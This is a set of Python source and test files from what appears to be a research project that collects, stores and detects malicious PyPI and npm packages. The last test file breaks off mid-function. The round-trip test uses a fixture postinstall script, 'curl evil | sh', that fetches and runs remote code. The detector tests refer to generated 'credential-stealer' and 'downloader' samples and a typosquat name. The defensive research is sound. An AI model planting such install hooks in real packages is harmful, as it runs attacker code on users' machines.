    def __len__(self) -> int:
        return self.n_packages

    # -- vectorised accessors ---------------------------------------------
    def available_mask(self) -> np.ndarray:
        return self.packages["has_artifact"]

    def release_days(self) -> Tuple[np.ndarray, np.ndarray]:
        """(days, mask): release day per row + which rows have one."""
        return self.packages["release_day"], self.packages["has_release"]

    def source_counts(self) -> np.ndarray:
        """Distinct claim sources per row — ``len(entry.sources)``
        without hydrating a single claim."""
        n = self.n_packages
        if n == 0:
            return np.zeros(0, dtype=np.int64)
        counts = self.claim_offsets[1:] - self.claim_offsets[:-1]
        row_of_claim = np.repeat(np.arange(n, dtype=np.int64), counts)
        pairs = row_of_claim * np.int64(len(self.pool) + 1) + self.claim_source
        unique_rows = row_of_claim[_first_occurrence_mask(pairs)]
        return np.bincount(unique_rows, minlength=n).astype(np.int64)

    def first_report_days(self) -> np.ndarray:
        """min claim report_day per row (rows with no claims get -1)."""
        n = self.n_packages
        out = np.full(n, -1, dtype=np.int64)
        if n == 0 or len(self.claim_day) == 0:
            return out
        counts = self.claim_offsets[1:] - self.claim_offsets[:-1]
        row_of_claim = np.repeat(np.arange(n, dtype=np.int64), counts)
        out = np.full(n, np.iinfo(np.int64).max, dtype=np.int64)
        np.minimum.at(out, row_of_claim, self.claim_day)
        out[counts == 0] = -1
        return out

    def package_keys(self) -> np.ndarray:
        """(eco, name, version) pool-id triples, one row per package."""
        keys = np.empty((self.n_packages, 3), dtype=np.int64)
        keys[:, 0] = self.packages["eco"]
        keys[:, 1] = self.packages["name"]
        keys[:, 2] = self.packages["version"]
        return keys

    def ranked_keys(self) -> np.ndarray:
        """Void-dtype package keys whose memcmp order equals the
        lexicographic order of the (ecosystem, name, version) strings.

        Pool ids carry no string order, so each id column is first
        mapped through the pool's lexicographic ranks (computed over the
        key ids only — file text never decodes), then packed big-endian —
        after which numpy's bytewise comparison of the 24-byte void rows
        matches tuple-of-strings comparison.
        """
        if self.n_packages == 0:
            return np.empty(0, dtype=np.dtype((np.void, 24)))
        keys = self.package_keys()
        ranks = self.pool.subset_ranks(keys)
        ranked = ranks[keys].astype(">i8")
        return ranked.reshape(ranked.shape[0], -1).view(
            np.dtype((np.void, 24))
        ).reshape(-1)

    # -- row gather --------------------------------------------------------
    def take(self, rows: np.ndarray) -> "ColumnarDataset":
        """New dataset with package rows ``rows`` (reports unchanged),
        sharing the pool."""
        rows = np.asarray(rows, dtype=np.int64)
        c_off, c_src, c_day, c_sh = csr_take(
            self.claim_offsets, rows, self.claim_source, self.claim_day,
            self.claim_shares,
        )
        f_off, f_path, f_text = csr_take(
            self.file_offsets, rows, self.file_path, self.file_text
        )
        k_off, k_val = csr_take(self.keyword_offsets, rows, self.keyword)
        d_off, d_val = csr_take(self.dep_offsets, rows, self.dep)
        s_off, s_key, s_val = csr_take(
            self.script_offsets, rows, self.script_key, self.script_val
        )
        return ColumnarDataset(
            pool=self.pool,
            packages=self.packages[rows],
            claim_offsets=c_off,
            claim_source=c_src,
            claim_day=c_day,
            claim_shares=c_sh,
            file_offsets=f_off,
            file_path=f_path,
            file_text=f_text,
            keyword_offsets=k_off,
            keyword=k_val,
            dep_offsets=d_off,
            dep=d_val,
            script_offsets=s_off,
            script_key=s_key,
            script_val=s_val,
            reports=self.reports,
            rpkg_offsets=self.rpkg_offsets,
            rpkg_eco=self.rpkg_eco,
            rpkg_name=self.rpkg_name,
            rpkg_ver=self.rpkg_ver,
            unresolved_offsets=self.unresolved_offsets,
            unresolved_a=self.unresolved_a,
            unresolved_b=self.unresolved_b,
        )

    # -- hydration ---------------------------------------------------------
    def package_id_at(self, i: int) -> PackageId:
        row = self.packages[i]
        look = self.pool.lookup
        return PackageId(
            look(int(row["eco"])), look(int(row["name"])), look(int(row["version"]))
        )

    def entry_at(self, i: int) -> DatasetEntry:
        """Hydrate row ``i`` into a fresh DatasetEntry (sha memo
        pre-seeded, so hydration never re-canonicalises code)."""
        row = self.packages[i]
        look = self.pool.lookup
        package = PackageId(
            look(int(row["eco"])), look(int(row["name"])), look(int(row["version"]))
        )
        c0, c1 = int(self.claim_offsets[i]), int(self.claim_offsets[i + 1])
        claims = [
            SourceClaim(
                source=look(int(self.claim_source[j])),
                report_day=int(self.claim_day[j]),
                shares_artifact=bool(self.claim_shares[j]),
            )
            for j in range(c0, c1)
        ]
        artifact = None
        if bool(row["has_artifact"]):
            f0, f1 = int(self.file_offsets[i]), int(self.file_offsets[i + 1])
            files = {
                look(int(self.file_path[j])): look(int(self.file_text[j]))
                for j in range(f0, f1)
            }
            k0, k1 = int(self.keyword_offsets[i]), int(self.keyword_offsets[i + 1])
            d0, d1 = int(self.dep_offsets[i]), int(self.dep_offsets[i + 1])
            s0, s1 = int(self.script_offsets[i]), int(self.script_offsets[i + 1])
            metadata = PackageMetadata(
                description=look(int(row["meta_description"])),
                author=look(int(row["meta_author"])),
                homepage=look(int(row["meta_homepage"])),
                keywords=tuple(look(int(self.keyword[j])) for j in range(k0, k1)),
                dependencies=tuple(look(int(self.dep[j])) for j in range(d0, d1)),
                scripts={
                    look(int(self.script_key[j])): look(int(self.script_val[j]))
                    for j in range(s0, s1)
                },
            )
            artifact = PackageArtifact(
                id=package,
                metadata=metadata,
                files=files,
                _sha256=look(int(row["sha"])),
            )
        return DatasetEntry(
            package=package,
            claims=claims,
            artifact=artifact,
            artifact_origin=look(int(row["origin"])),
            release_day=int(row["release_day"]) if bool(row["has_release"]) else None,
            removal_day=int(row["removal_day"]) if bool(row["has_removal"]) else None,
            detection_day=(
                int(row["detection_day"]) if bool(row["has_detection"]) else None
            ),
            downloads=int(row["downloads"]),
            campaign_id=look(int(row["campaign"])),
            actor=look(int(row["actor"])),
            archetype=look(int(row["archetype"])),
            behavior_key=look(int(row["behavior"])),
        )

    def report_at(self, i: int) -> CollectedReport:
        row = self.reports[i]
        look = self.pool.lookup
        p0, p1 = int(self.rpkg_offsets[i]), int(self.rpkg_offsets[i + 1])
        u0, u1 = int(self.unresolved_offsets[i]), int(self.unresolved_offsets[i + 1])
        return CollectedReport(
            report_id=look(int(row["report_id"])),
            url=look(int(row["url"])),
            site=look(int(row["site"])),
            category=look(int(row["category"])),
            source=look(int(row["source"])),
            publish_day=int(row["publish_day"]) if bool(row["has_publish"]) else None,
            packages=[
                PackageId(
                    look(int(self.rpkg_eco[j])),
                    look(int(self.rpkg_name[j])),
                    look(int(self.rpkg_ver[j])),
                )
                for j in range(p0, p1)
            ],
            unresolved=[
                (look(int(self.unresolved_a[j])), look(int(self.unresolved_b[j])))
                for j in range(u0, u1)
            ],
            actor_alias=look(int(row["actor_alias"])),
        )

    # -- persistence -------------------------------------------------------
    _ARRAY_FIELDS = (
        "packages",
        "claim_offsets",
        "claim_source",
        "claim_day",
        "claim_shares",
        "file_offsets",
        "file_path",
        "file_text",
        "keyword_offsets",
        "keyword",
        "dep_offsets",
        "dep",
        "script_offsets",
        "script_key",
        "script_val",
        "reports",
        "rpkg_offsets",
        "rpkg_eco",
        "rpkg_name",
        "rpkg_ver",
        "unresolved_offsets",
        "unresolved_a",
        "unresolved_b",
    )

    def arrays(self) -> Dict[str, np.ndarray]:
        """Every backing array keyed by a stable name (pool included) —
        the persistence surface for the mmap tier."""
        out = {name: getattr(self, name) for name in self._ARRAY_FIELDS}
        frozen = self.pool.freeze()
        out["pool_data"] = frozen["data"]
        out["pool_offsets"] = frozen["offsets"]
        return out

    @classmethod
    def from_array_map(cls, arrays: Dict[str, np.ndarray]) -> "ColumnarDataset":
        """Inverse of :meth:`arrays`; the arrays may be memory-mapped."""
        pool = StringPool.from_arrays(arrays["pool_data"], arrays["pool_offsets"])
        kwargs = {name: arrays[name] for name in cls._ARRAY_FIELDS}
        return cls(pool=pool, **kwargs)


def _first_occurrence_mask(values: np.ndarray) -> np.ndarray:
    """Boolean mask selecting the first occurrence of each distinct
    value, preserving input order."""
    if len(values) == 0:
        return np.zeros(0, dtype=bool)
    order = np.argsort(values, kind="stable")
    sorted_vals = values[order]
    keep_sorted = np.empty(len(values), dtype=bool)
    keep_sorted[0] = True
    np.not_equal(sorted_vals[1:], sorted_vals[:-1], out=keep_sorted[1:])
    mask = np.zeros(len(values), dtype=bool)
    mask[order[keep_sorted]] = True
    return mask
