"""Temporal stability of the analysis results (Section II-D).

The paper's "Dynamic Changing" validity argument: *"One concern is that
the analysis results may be changed when new and unknown malicious
packages are released ... Our dataset covers an extended period, and the
analysis results are stable with time."*

This module makes that argument measurable. :func:`snapshot_dataset`
reconstructs the dataset as it would have looked at an earlier cutoff
day (claims, reports and registry facts after the cutoff removed);
:func:`compute_stability` evaluates the headline metrics on a series of
growing snapshots, so the convergence the paper asserts can be checked:
late-window metric values should settle.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence

from repro.analysis.overlap import compute_dg_size_cdf
from repro.analysis.quality import compute_missing_rates
from repro.analysis.render import render_table
from repro.collection.records import (
    CollectedReport,
    DatasetEntry,
    MalwareDataset,
    SourceClaim,
)
from repro.ecosystem.clock import day_to_date


def snapshot_dataset(dataset: MalwareDataset, cutoff_day: int) -> MalwareDataset:
    """The dataset as collected with knowledge up to ``cutoff_day``.

    * entries survive iff some source had reported them by the cutoff;
    * claims after the cutoff are dropped;
    * an artifact survives iff a kept claim shares it *or* it was
      recovered from a mirror (mirror recovery depends on the removal
      time, which precedes any report, so recovered bits were already
      recoverable at the cutoff);
    * reports published after the cutoff are dropped.
    """
    entries: List[DatasetEntry] = []
    kept_keys = set()
    for entry in dataset.entries:
        claims = [c for c in entry.claims if c.report_day <= cutoff_day]
        if not claims:
            continue
        clone = DatasetEntry(
            package=entry.package,
            claims=[SourceClaim(c.source, c.report_day, c.shares_artifact) for c in claims],
            release_day=entry.release_day,
            removal_day=entry.removal_day,
            detection_day=entry.detection_day,
            downloads=entry.downloads,
            campaign_id=entry.campaign_id,
            actor=entry.actor,
            archetype=entry.archetype,
            behavior_key=entry.behavior_key,
        )
        origin = entry.artifact_origin or ""
        sharing_kept = any(c.shares_artifact for c in claims)
        if entry.artifact is not None and (
            origin.startswith("mirror:") or sharing_kept
        ):
            clone.artifact = entry.artifact
            clone.artifact_origin = entry.artifact_origin
        entries.append(clone)
        kept_keys.add(entry.package)
    reports: List[CollectedReport] = []
    for report in dataset.reports:
        if report.publish_day is not None and report.publish_day > cutoff_day:
            continue
        clone = CollectedReport(
            report_id=report.report_id,
            url=report.url,
            site=report.site,
            category=report.category,
            source=report.source,
            publish_day=report.publish_day,
            packages=[p for p in report.packages if p in kept_keys],
            unresolved=list(report.unresolved),
        )
        reports.append(clone)
    return MalwareDataset(entries=entries, reports=reports)


#: Metric name -> callable(dataset) -> float. The headline RQ1 metrics
#: whose stability the paper asserts.
DEFAULT_METRICS: Dict[str, Callable[[MalwareDataset], float]] = {
    "packages": lambda ds: float(len(ds)),
    "missing_rate_%": lambda ds: compute_missing_rates(ds).overall_rate,
    "single_source_%": lambda ds: 100.0
    * compute_dg_size_cdf(ds).single_source_fraction,
    "reports": lambda ds: float(len(ds.reports)),
}


@dataclass
class StabilitySeries:
    """Metric values over growing snapshot cutoffs."""

    cutoffs: List[int]
    metrics: Dict[str, List[float]]

    def final_drift(self, metric: str) -> float:
        """Relative change of a metric between the last two snapshots."""
        values = self.metrics[metric]
        if len(values) < 2 or values[-2] == 0:
            return 0.0
        return abs(values[-1] - values[-2]) / abs(values[-2])

    def render(self) -> str:
        headers = ["cutoff"] + list(self.metrics)
        rows = []
        for idx, cutoff in enumerate(self.cutoffs):
            rows.append(
                [day_to_date(cutoff).isoformat()]
                + [f"{self.metrics[name][idx]:.2f}" for name in self.metrics]
            )
        return render_table(
            headers,
            rows,
            title="Dynamic changing (Section II-D): metrics over growing snapshots",
        )


def compute_stability(
    dataset: MalwareDataset,
    snapshots: int = 6,
    metrics: Optional[Dict[str, Callable[[MalwareDataset], float]]] = None,
) -> StabilitySeries:
    """Evaluate ``metrics`` on ``snapshots`` evenly spaced cutoffs.

    Cutoffs span from 40% of the observed reporting window to its end,
    so the early, tiny snapshots (where every metric is noisy) are not
    part of the stability claim.
    """
    metrics = metrics if metrics is not None else DEFAULT_METRICS
    report_days = [
        claim.report_day for entry in dataset.entries for claim in entry.claims
    ]
    if not report_days:
        return StabilitySeries(cutoffs=[], metrics={name: [] for name in metrics})
    first, last = min(report_days), max(report_days)
    start = first + int(0.4 * (last - first))
    step = max((last - start) // max(snapshots - 1, 1), 1)
    cutoffs = [min(start + i * step, last) for i in range(snapshots)]
    cutoffs[-1] = last
    series: Dict[str, List[float]] = {name: [] for name in metrics}
    for cutoff in cutoffs:
        snap = snapshot_dataset(dataset, cutoff)
        for name, fn in metrics.items():
            series[name].append(fn(snap))
    return StabilitySeries(cutoffs=cutoffs, metrics=series)
