"""docs/TUTORIAL.md is executable documentation: every fenced python
block runs, in order, in one shared namespace."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

TUTORIAL = Path(__file__).resolve().parent.parent / "docs" / "TUTORIAL.md"

_BLOCK_RE = re.compile(r"```python\n(.*?)```", re.DOTALL)


def _blocks():
    return _BLOCK_RE.findall(TUTORIAL.read_text())


def test_tutorial_has_code_blocks():
    assert len(_blocks()) >= 8


def test_tutorial_blocks_execute_in_order(capsys):
    namespace = {"__name__": "tutorial"}
    for index, block in enumerate(_blocks()):
        try:
            exec(compile(block, f"<tutorial block {index}>", "exec"), namespace)
        except Exception as error:  # pragma: no cover - diagnostic
            pytest.fail(
                f"tutorial block {index} failed: {error}\n--- block ---\n{block}"
            )
