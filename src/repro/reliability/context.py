"""ResilienceContext — one resilient collection run's shared machinery.

The context owns the simulated clock, the retry policy, the fault
injector (when a plan is active), the per-dependency circuit breakers,
and the :class:`~repro.reliability.report.DegradationReport` that every
wrapped operation books into. Collection components receive the context
and route fallible operations through :meth:`ResilienceContext.call`,
which returns an :class:`Outcome` instead of raising — graceful
degradation is then a local decision (skip the URL, keep the partial
feed) rather than an unwound stack.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, Dict, Optional

from repro.errors import TransientError
from repro.reliability.faults import FaultInjector, FaultPlan
from repro.reliability.report import DegradationReport
from repro.reliability.retry import (
    CircuitBreaker,
    RetryClock,
    RetryPolicy,
    retry_call,
)


@dataclass
class Outcome:
    """Result of one resilient operation: value or quarantined failure."""

    ok: bool
    value: object = None
    failure: Optional[TransientError] = None
    attempts: int = 0
    #: True when a tripped breaker refused the operation outright.
    skipped: bool = False


class ResilienceContext:
    """Shared clock, policy, breakers, injector, and report for one run."""

    def __init__(
        self,
        policy: Optional[RetryPolicy] = None,
        plan: Optional[FaultPlan] = None,
        clock: Optional[RetryClock] = None,
    ):
        self.policy = policy if policy is not None else RetryPolicy()
        self.plan = plan
        self.clock = clock if clock is not None else RetryClock()
        self.injector: Optional[FaultInjector] = (
            FaultInjector(plan) if plan is not None and not plan.is_null
            else None
        )
        self.report = DegradationReport()
        seed = plan.seed if plan is not None else 0
        #: jitter source — seeded off the plan so backoff sequences (and
        #: therefore breaker cool-down timings) are reproducible.
        self.rng = random.Random(f"{seed}|jitter")
        self._breakers: Dict[str, CircuitBreaker] = {}

    def breaker(
        self,
        name: str,
        failure_threshold: int = 5,
        cooldown: float = 120.0,
    ) -> CircuitBreaker:
        """Get-or-create the named breaker (per site, per mirror fleet)."""
        found = self._breakers.get(name)
        if found is None:
            found = CircuitBreaker(
                self.clock,
                name=name,
                failure_threshold=failure_threshold,
                cooldown=cooldown,
            )
            self._breakers[name] = found
        return found

    def call(
        self,
        label: str,
        fn: Callable[[], object],
        breaker: Optional[CircuitBreaker] = None,
    ) -> Outcome:
        """Run ``fn`` through retry + breaker, booking into the report.

        Transient failures are retried per the policy; exhaustion is
        captured in the returned :class:`Outcome` (never raised).
        Permanent errors propagate — they are caller bugs or genuine
        negatives, not degradation. A breaker failure is one *operation*
        failure (retry exhaustion), not one per attempt.
        """
        if breaker is not None and not breaker.allow():
            self.report.skip_for_breaker()
            return Outcome(ok=False, skipped=True)

        errors_seen = 0

        def on_error(failure: TransientError) -> None:
            nonlocal errors_seen
            errors_seen += 1
            self.report.note_error(
                label, getattr(failure, "kind", "transient")
            )

        try:
            value = retry_call(
                fn,
                policy=self.policy,
                clock=self.clock,
                rng=self.rng,
                on_error=on_error,
            )
        except TransientError as failure:
            self.report.note_exhausted(errors_seen)
            if breaker is not None and breaker.record_failure():
                self.report.trip_breaker(breaker.name)
            return Outcome(ok=False, failure=failure, attempts=errors_seen)
        self.report.note_success(errors_seen + 1)
        if breaker is not None:
            breaker.record_success()
        return Outcome(ok=True, value=value, attempts=errors_seen + 1)

    def finalise(self) -> DegradationReport:
        """Seal the report with the injector's fault ledger and plan."""
        if self.injector is not None:
            self.report.faults_injected = dict(self.injector.injected)
        if self.plan is not None:
            self.report.fault_plan = self.plan.to_dict()
        return self.report
