"""Package signatures: SHA256 over canonical code content only."""

from __future__ import annotations

from repro.core.signatures import code_sha256, file_sha256, signature_index
from repro.ecosystem.package import make_artifact

CODE = "def f():\n    return 1\n"


def _pkg(name: str, version: str = "1.0", code: str = CODE, description: str = ""):
    return make_artifact(
        "pypi", name, version, {"pkg/main.py": code}, description=description
    )


def test_signature_covers_code_not_metadata():
    """Different name/version/description, same code -> same signature
    (the 'brock-loader' vs 'soltalabs-ramda-extra' duplicated-edge case)."""
    a = _pkg("brock-loader", "1.9.9", description="loader")
    b = _pkg("soltalabs-ramda-extra", "1.99.99", description="ramda extras")
    assert code_sha256(a) == code_sha256(b)


def test_signature_changes_with_code():
    assert code_sha256(_pkg("a")) != code_sha256(_pkg("a", code=CODE + "\n# x\n"))


def test_signature_sensitive_to_file_paths():
    a = make_artifact("pypi", "p", "1.0", {"pkg/one.py": CODE})
    b = make_artifact("pypi", "p", "1.0", {"pkg/two.py": CODE})
    assert code_sha256(a) != code_sha256(b)


def test_signature_ignores_non_code_files():
    a = make_artifact("pypi", "p", "1.0", {"pkg/m.py": CODE})
    b = make_artifact("pypi", "p", "1.0", {"pkg/m.py": CODE, "README.md": "hello"})
    assert code_sha256(a) == code_sha256(b)


def test_signature_independent_of_file_insertion_order():
    a = make_artifact("pypi", "p", "1.0", {"a.py": "x = 1\n", "b.py": "y = 2\n"})
    files_reversed = {"b.py": "y = 2\n", "a.py": "x = 1\n"}
    b = make_artifact("pypi", "p", "1.0", files_reversed)
    assert code_sha256(a) == code_sha256(b)


def test_file_sha256_is_stable_hex():
    digest = file_sha256(CODE)
    assert len(digest) == 64
    assert digest == file_sha256(CODE)
    assert digest != file_sha256(CODE + " ")


def test_signature_index_groups_duplicates():
    a = _pkg("one")
    b = _pkg("two")
    c = _pkg("three", code="print('different')\n")
    index = signature_index([a, b, c])
    sizes = sorted(len(v) for v in index.values())
    assert sizes == [1, 2]
    assert index[a.sha256()] == [a, b]
