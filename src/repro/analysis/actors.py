"""Actor attribution from security reports (the 'Lolip0p' context).

The paper's fourth lesson: packages alone lack the context of who
released them — security reports carry it. Analysts name an actor alias
in their write-ups; the crawler recovers it
(:func:`repro.crawler.extract.extract_actor_alias`), so packages can be
attributed to aliases without any ground truth.

:func:`compute_actor_attribution` builds the alias → package map and —
because the simulated world knows the true actor behind every campaign
— scores it: alias purity (does one alias cover one true actor?) and
the coverage of the attributed slice.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.analysis.render import render_table
from repro.collection.records import MalwareDataset
from repro.ecosystem.package import PackageId


@dataclass
class ActorProfile:
    """One alias as reconstructed from the report corpus."""

    alias: str
    packages: List[PackageId]
    reports: int
    ecosystems: List[str]
    first_day: Optional[int]
    last_day: Optional[int]
    #: ground-truth validation: dominant true actor and its share
    true_actor: Optional[str] = None
    purity: float = 0.0

    @property
    def size(self) -> int:
        return len(self.packages)


@dataclass
class ActorAttribution:
    """All alias profiles plus aggregate validation scores."""

    profiles: List[ActorProfile]
    attributed_packages: int
    dataset_packages: int
    mean_purity: float

    @property
    def coverage(self) -> float:
        if not self.dataset_packages:
            return 0.0
        return self.attributed_packages / self.dataset_packages

    def profile(self, alias: str) -> Optional[ActorProfile]:
        for profile in self.profiles:
            if profile.alias == alias:
                return profile
        return None

    def render(self, top: int = 10) -> str:
        rows = [
            [
                p.alias,
                p.size,
                p.reports,
                ",".join(p.ecosystems),
                f"{p.purity:.2f}",
            ]
            for p in self.profiles[:top]
        ]
        return render_table(
            ["Alias", "Packages", "Reports", "Ecosystems", "Purity"],
            rows,
            title=(
                f"Actor attribution from reports: {len(self.profiles)} aliases "
                f"covering {self.coverage:.1%} of the dataset "
                f"(mean alias purity {self.mean_purity:.2f})"
            ),
        )


def compute_actor_attribution(dataset: MalwareDataset) -> ActorAttribution:
    """Group the dataset's packages by the alias their reports name."""
    packages_by_alias: Dict[str, Set[PackageId]] = {}
    reports_by_alias: Counter = Counter()
    for report in dataset.reports:
        if not report.actor_alias:
            continue
        reports_by_alias[report.actor_alias] += 1
        packages_by_alias.setdefault(report.actor_alias, set()).update(
            report.packages
        )
    profiles: List[ActorProfile] = []
    attributed: Set[PackageId] = set()
    for alias, packages in packages_by_alias.items():
        entries = [dataset.get(p) for p in packages]
        entries = [e for e in entries if e is not None]
        days = [e.release_day for e in entries if e.release_day is not None]
        true_actors = Counter(e.actor for e in entries if e.actor)
        if true_actors:
            true_actor, hits = true_actors.most_common(1)[0]
            purity = hits / sum(true_actors.values())
        else:
            true_actor, purity = None, 0.0
        ecosystems = sorted({e.package.ecosystem for e in entries})
        profiles.append(
            ActorProfile(
                alias=alias,
                packages=sorted(packages),
                reports=reports_by_alias[alias],
                ecosystems=ecosystems,
                first_day=min(days) if days else None,
                last_day=max(days) if days else None,
                true_actor=true_actor,
                purity=purity,
            )
        )
        attributed |= packages
    profiles.sort(key=lambda p: (-p.size, p.alias))
    purities = [p.purity for p in profiles if p.true_actor]
    return ActorAttribution(
        profiles=profiles,
        attributed_packages=len(attributed),
        dataset_packages=len(dataset),
        mean_purity=sum(purities) / len(purities) if purities else 0.0,
    )
