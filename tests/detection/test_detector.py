"""Detector scoring, verdicts and corpus evaluation."""

from __future__ import annotations

import random

import pytest

from repro.detection.detector import Detector, Verdict, evaluate
from repro.ecosystem.package import make_artifact
from repro.malware.behaviors import BEHAVIORS, get_behavior
from repro.malware.codegen import (
    generate_benign_source_tree,
    generate_source_tree,
    make_style,
)


def _malicious(behavior_key: str, seed: int = 1):
    tree = generate_source_tree(get_behavior(behavior_key), make_style(seed), "pkg_m")
    return make_artifact("pypi", "evil-compound-pkg", "1.0", tree.files)


def _benign(seed: int = 2):
    tree = generate_benign_source_tree(make_style(seed), "pkg_b")
    return make_artifact(
        "pypi",
        "nice-quiet-library",
        "1.0",
        tree.files,
        description="A well-maintained helper library",
    )


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector()


@pytest.mark.parametrize("behavior", [b.key for b in BEHAVIORS])
def test_every_behavior_family_is_detected(detector, behavior):
    verdict = detector.scan(_malicious(behavior))
    assert verdict.malicious, (
        f"{behavior}: score {verdict.score:.2f}\n{verdict.explain()}"
    )


def test_benign_package_is_clean(detector):
    verdict = detector.scan(_benign())
    assert not verdict.malicious
    assert verdict.score < detector.threshold


def test_typosquat_raises_score(detector):
    tree = generate_benign_source_tree(make_style(5), "pkg_s")
    plain = make_artifact("pypi", "fresh-unrelated-name", "1.0", tree.files)
    squat = make_artifact("pypi", "reqests", "1.0", tree.files)
    assert detector.scan(squat).score > detector.scan(plain).score
    assert detector.scan(squat).squat is not None
    assert detector.scan(plain).squat is None


def test_verdict_explain_lists_rules(detector):
    verdict = detector.scan(_malicious("credential-stealer"))
    out = verdict.explain()
    assert "MALICIOUS" in out
    assert verdict.rules_hit()
    for rule in verdict.rules_hit():
        assert rule in out


def test_scan_many_order(detector):
    artifacts = [_benign(), _malicious("downloader")]
    verdicts = detector.scan_many(artifacts)
    assert [v.malicious for v in verdicts] == [False, True]


def test_threshold_is_configurable():
    lenient = Detector(threshold=1e9)
    assert not lenient.scan(_malicious("downloader")).malicious
    paranoid = Detector(threshold=0.0)
    assert paranoid.scan(_benign()).malicious


def test_evaluate_confusion_matrix():
    detector = Detector()
    malicious = [_malicious(b.key, seed=10 + i) for i, b in enumerate(BEHAVIORS[:4])]
    benign = [_benign(seed=50 + i) for i in range(4)]
    result = evaluate(detector, malicious, benign)
    assert result.true_positives == 4
    assert result.false_negatives == 0
    assert result.true_negatives + result.false_positives == 4
    assert 0.0 <= result.precision <= 1.0
    assert result.recall == 1.0
    assert "F1" in result.render()


def test_evaluate_degenerate_cases():
    detector = Detector()
    empty = evaluate(detector, [], [])
    assert empty.precision == 0.0
    assert empty.recall == 0.0
    assert empty.f1 == 0.0
