"""Columnar round-trip: dataset -> arrays -> hydrated dataclasses is
byte-identical under the canonical :mod:`repro.io.datasets`
serialisation — including tombstoned/removed packages, artifact-less
entries, reports with unresolved mentions, and degraded-collection
corpora.
"""

from __future__ import annotations

import json

from hypothesis import given, settings, strategies as st

from repro.collection.records import (
    CollectedReport,
    DatasetEntry,
    MalwareDataset,
    SourceClaim,
)
from repro.core.columnar import (
    ColumnarDataset,
    ColumnarMalwareDataset,
    load_columnar,
    save_columnar,
)
from repro.ecosystem.package import PackageId, make_artifact
from repro.io.datasets import entry_to_dict, report_to_dict

_SOURCES = ["snyk", "phylum", "tianwen", "datadog"]
_CODES = ["A = 1\n", "B = 2\n", "import os\nC = 3\n"]
_NAMES = ("p0", "p1", "p2", "p3", "p4")


@st.composite
def entries(draw):
    name = draw(st.sampled_from(_NAMES))
    eco = draw(st.sampled_from(("pypi", "npm")))
    has_artifact = draw(st.booleans())
    claims = draw(
        st.lists(
            st.tuples(st.sampled_from(_SOURCES), st.integers(0, 500), st.booleans()),
            min_size=1,
            max_size=3,
        )
    )
    entry = DatasetEntry(
        package=PackageId(eco, name, "1.0"),
        claims=[SourceClaim(s, d, share) for s, d, share in claims],
        downloads=draw(st.integers(0, 1000)),
        release_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        # tombstones: removed and/or detected packages round-trip too
        removal_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        detection_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        campaign_id=draw(st.one_of(st.none(), st.sampled_from(("c1", "c2")))),
        actor=draw(st.one_of(st.none(), st.sampled_from(("actor-a", "actor-b")))),
    )
    if has_artifact:
        entry.artifact = make_artifact(
            eco,
            name,
            "1.0",
            {"pkg/m.py": draw(st.sampled_from(_CODES)), "README.md": "doc"},
            description=draw(st.sampled_from(("", "desc"))),
            dependencies=tuple(
                draw(st.lists(st.sampled_from(_NAMES), max_size=2, unique=True))
            ),
            keywords=tuple(
                draw(st.lists(st.sampled_from(("k1", "k2")), max_size=2, unique=True))
            ),
            scripts=draw(
                st.one_of(st.none(), st.just({"postinstall": "curl evil | sh"}))
            ),
        )
        entry.artifact_origin = draw(st.sampled_from(("source:test", "mirror:m1")))
    return entry


@st.composite
def reports(draw):
    rid = draw(st.sampled_from(("r1", "r2", "r3")))
    mentions = draw(st.lists(st.sampled_from(_NAMES), max_size=3))
    return CollectedReport(
        report_id=rid,
        url=f"https://intel.test/{rid}",
        site="intel.test",
        category=draw(st.sampled_from(("Security org.", "Registry"))),
        source=draw(st.sampled_from(_SOURCES)),
        publish_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        packages=[PackageId("pypi", n, "1.0") for n in mentions],
        unresolved=draw(
            st.lists(st.tuples(st.sampled_from(("ghost", "??")), st.just("1.0")),
                     max_size=2)
        ),
        actor_alias=draw(st.one_of(st.none(), st.just("alias-x"))),
    )


@st.composite
def datasets(draw):
    pool = draw(st.lists(entries(), min_size=0, max_size=5))
    unique = {}
    for entry in pool:
        unique.setdefault(entry.package, entry)
    by_id = {}
    for report in draw(st.lists(reports(), min_size=0, max_size=3)):
        by_id.setdefault(report.report_id, report)
    return MalwareDataset(
        entries=list(unique.values()), reports=list(by_id.values())
    )


def canonical(dataset: MalwareDataset) -> str:
    return json.dumps(
        {
            "entries": [entry_to_dict(e) for e in dataset.entries],
            "reports": [report_to_dict(r) for r in dataset.reports],
        },
        sort_keys=True,
    )


def assert_roundtrip(dataset: MalwareDataset, tmp_path=None) -> None:
    col = ColumnarDataset.from_dataset(dataset)
    facade = ColumnarMalwareDataset(col)
    assert canonical(facade) == canonical(dataset)
    if tmp_path is not None:
        save_columnar(col, tmp_path / "col")
        loaded = ColumnarMalwareDataset(load_columnar(tmp_path / "col", mmap=True))
        assert canonical(loaded) == canonical(dataset)


@given(datasets())
@settings(max_examples=60, deadline=None)
def test_roundtrip_byte_identical(ds):
    assert_roundtrip(ds)


@given(datasets())
@settings(max_examples=20, deadline=None)
def test_roundtrip_through_disk_mmap(ds):
    import tempfile
    from pathlib import Path

    col = ColumnarDataset.from_dataset(ds)
    with tempfile.TemporaryDirectory() as tmp:
        save_columnar(col, Path(tmp) / "col")
        loaded = ColumnarMalwareDataset(
            load_columnar(Path(tmp) / "col", mmap=True)
        )
        assert canonical(loaded) == canonical(ds)


def test_facade_memoises_hydration(small_dataset):
    facade = ColumnarMalwareDataset(ColumnarDataset.from_dataset(small_dataset))
    assert facade.entries[3] is facade.entries[3]
    assert facade.reports[0] is facade.reports[0]
    assert isinstance(facade, MalwareDataset)
    # hydrated artifacts carry the pooled sha: no re-canonicalisation
    entry = next(e for e in facade.entries if e.artifact is not None)
    assert entry.artifact._sha256 is not None


def test_small_collection_roundtrips(small_dataset, tmp_path):
    assert_roundtrip(small_dataset, tmp_path)


def test_degraded_collection_roundtrips(small_world, tmp_path):
    """A corpus collected under heavy chaos (quarantined URLs, missing
    artifacts) is still losslessly columnar-encodable."""
    from repro.reliability import FaultPlan
    from repro.world import run_collection

